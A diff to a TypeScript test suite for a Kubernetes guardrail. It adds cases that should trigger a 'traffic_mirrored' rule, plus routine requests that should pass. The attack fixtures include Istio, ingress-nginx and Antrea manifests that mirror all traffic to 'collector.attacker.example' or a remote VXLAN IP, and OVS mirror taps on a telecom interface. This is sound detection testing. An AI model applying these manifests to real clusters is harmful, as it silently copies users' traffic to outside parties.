@@ -357,6 +357,29 @@ sweepAttacks([
   },
 ], send);
 
+// Traffic copied out (traffic_mirrored, critical: a key tap within 5 minutes): a CNI chain's
+// mirror, a route's shadow of every request sent outside the namespace's own Services, Antrea's
+// TrafficControl. Day 41: an ovs-mirror-producer on the UPF's N3 attachment.
+const vsIn = (ns: string, http: object[]) => ({ apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: meta('web', ns), spec: { hosts: ['web'], http: [{ route: [{ destination: { host: 'web' } }], ...http[0] }] } });
+const hrIn = (ns: string, filters: object[]) => ({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: meta('web', ns), spec: { parentRefs: [{ name: 'public', namespace: 'gateway' }], hostnames: ['web.dev.example.com'], rules: [{ filters, backendRefs: [{ name: 'web', port: 8080 }] }] } });
+const ovsMirror = (type: string) => ({ plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310 }, { type, bridge: 'br-n3', mirrors: [{ name: 'n3-tap', ingress: true, egress: true }] }] });
+sweepAttacks([
+  {
+    what: 'a copy of traffic delivered elsewhere',
+    rule: 'guardrail:traffic_mirrored',
+    via: [
+      ["an ovs-mirror-producer added to a CNF's attachment", k('PUT', `${NADS}/n3-upf`, nad('cnf-smf', ovsMirror('ovs-mirror-producer')))],
+      ['an ovs-mirror-consumer attachment, in YAML', k('POST', NADS, `apiVersion: k8s.cni.cncf.io/v1\nkind: NetworkAttachmentDefinition\nmetadata: {name: n3-tap, namespace: cnf-smf}\nspec:\n  config: '${JSON.stringify({ cniVersion: '0.4.0', name: 'n3-tap', ...ovsMirror('ovs-mirror-consumer') })}'\n`, { 'content-type': 'application/yaml' })],
+      ['a macvtap in passthru by a merge patch', k('PATCH', `${NADS}/n6-sriov`, { spec: nad('cnf-smf', { type: 'macvtap', master: 'ens2f0', mode: 'passthru' }).spec }, MERGE)],
+      ['an Argo workflow creating a producer attachment', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/cnf-smf/workflows', argoWf({ entrypoint: 'nad', templates: [{ name: 'nad', resource: { action: 'apply', manifest: JSON.stringify(nad('cnf-smf', ovsMirror('ovs-mirror-producer'))) } }] }))],
+      ["an Istio mirror to a host outside the cluster", k('POST', '/apis/networking.istio.io/v1/namespaces/dev/virtualservices', vsIn('dev', [{ mirror: { host: 'collector.attacker.example' }, mirrorPercentage: { value: 100 } }]))],
+      ["a Gateway API RequestMirror to another namespace's Service", k('POST', '/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', hrIn('dev', [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'sink', namespace: 'lab', port: 80 } } }]))],
+      ["ingress-nginx's mirror-target to a URL outside", k('POST', '/apis/networking.k8s.io/v1/namespaces/dev/ingresses', { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { ...meta('web', 'dev'), annotations: { 'nginx.ingress.kubernetes.io/mirror-target': 'https://collector.attacker.example$request_uri' } }, spec: { rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] } })],
+      ["an Antrea TrafficControl mirroring pods to a remote VXLAN", k('POST', '/apis/crd.antrea.io/v1alpha2/trafficcontrols', { apiVersion: 'crd.antrea.io/v1alpha2', kind: 'TrafficControl', metadata: meta('mirror-web'), spec: { appliedTo: { podSelector: { matchLabels: { app: 'web' } } }, direction: 'Both', action: 'Mirror', targetPort: { vxlan: { remoteIP: '203.0.113.9' } } } })],
+    ],
+  },
+], send);
+
 const ROUTINE: readonly [string, Req][] = [
   ['virtctl console to a dev VM', vmi('dev', 'fedora', 'console')],
   ['virtctl vnc to a dev VM', vmi('dev', 'fedora', 'vnc')],
@@ -385,6 +408,8 @@ const ROUTINE: readonly [string, Req][] = [
   ['argo resubmit in dev (no parameters)', argoServer('PUT', '/api/v1/workflows/dev/etl-x7k2q/resubmit', { name: 'etl-x7k2q', namespace: 'dev', memoized: false })],
   ['argo submit --from wftmpl/texture-bake -p in dev (the template judged when written)', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'WorkflowTemplate', resourceName: 'texture-bake', submitOptions: { parameters: ['pack=season-7/texture-bake-1x2y', 'quality=high'] } })],
   ['argo submit in dev (a resource template with --validate=false)', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'create', flags: ['--validate=false'], manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n' } }] }))],
+  ['a VirtualService in dev shadowing to its own v2, with retries and a timeout', k('POST', '/apis/networking.istio.io/v1/namespaces/dev/virtualservices', vsIn('dev', [{ mirror: { host: 'web', subset: 'v2' }, mirrorPercentage: { value: 10 }, retries: { attempts: 3, perTryTimeout: '2s' }, timeout: '10s' }]))],
+  ['an HTTPRoute in dev with a header filter', k('POST', '/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', hrIn('dev', [{ type: 'RequestHeaderModifier', requestHeaderModifier: { set: [{ name: 'x-env', value: 'dev' }] } }]))],
   ['kn service update in dev', k('PATCH', '/apis/serving.knative.dev/v1/namespaces/dev/services/web', { spec: { template: { spec: { containers: [{ image: 'ghcr.io/example/web:1.5' }] } } } }, MERGE)],
 ];
 
